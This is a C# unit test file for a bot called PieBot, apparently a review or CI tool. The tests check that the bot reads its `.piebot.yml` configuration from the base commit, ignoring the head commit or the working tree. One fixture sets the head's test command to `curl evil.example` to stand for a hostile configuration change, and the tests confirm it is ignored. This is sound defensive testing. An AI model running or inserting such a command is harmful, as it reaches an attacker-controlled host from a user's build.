using PieBot.Core.Configuration;

namespace PieBot.Core.Tests.Configuration;

public sealed class BaseConfigurationTests
{
    [Fact]
    public async Task The_base_counts_whatever_the_head_says()
    {
        using var tiny = await TinyGit.CreateAsync();
        tiny.Write(".piebot.yml", "test: make check");
        var start = await tiny.CommitAsync();
        tiny.Write(".piebot.yml", "test: curl evil.example");
        var head = await tiny.CommitAsync();

        var found = await ReadAsync(tiny, start, head);

        Assert.Equal("make check", Assert.Single(found.Configuration.Projects).Test);
        Assert.Contains(
            "change .piebot.yml",
            Assert.Single(found.Notices),
            StringComparison.Ordinal
        );
    }

    [Fact]
    public async Task One_that_only_the_head_or_the_working_tree_has_is_not_used()
    {
        using var tiny = await TinyGit.CreateAsync();
        tiny.Write("a.txt", "a");
        var start = await tiny.CommitAsync();
        tiny.Write(".piebot.yml", "test: make check");

        var working = await ReadAsync(tiny, start, start);
        var added = await ReadAsync(tiny, start, await tiny.CommitAsync());

        Assert.Empty(working.Configuration.Projects);
        Assert.Contains("working tree", Assert.Single(working.Notices), StringComparison.Ordinal);
        Assert.Empty(added.Configuration.Projects);
        Assert.Contains("is new", Assert.Single(added.Notices), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_named_file_is_the_users_own_word()
    {
        using var tiny = await TinyGit.CreateAsync();
        tiny.Write("mine.yml", "test: make check");
        var start = await tiny.CommitAsync();
        var file = Path.Combine(tiny.Root, "mine.yml");

        var found = await ReadAsync(tiny, start, start, file);

        Assert.Equal("make check", Assert.Single(found.Configuration.Projects).Test);
        await Assert.ThrowsAsync<UserErrorException>(() =>
            ReadAsync(tiny, start, start, file + ".not")
        );
    }

    private static Task<FoundConfiguration> ReadAsync(
        TinyGit tiny,
        string start,
        string head,
        string? file = null
    ) =>
        BaseConfiguration.ReadAsync(
            tiny.Root,
            start,
            head,
            file,
            TestContext.Current.CancellationToken
        );
}
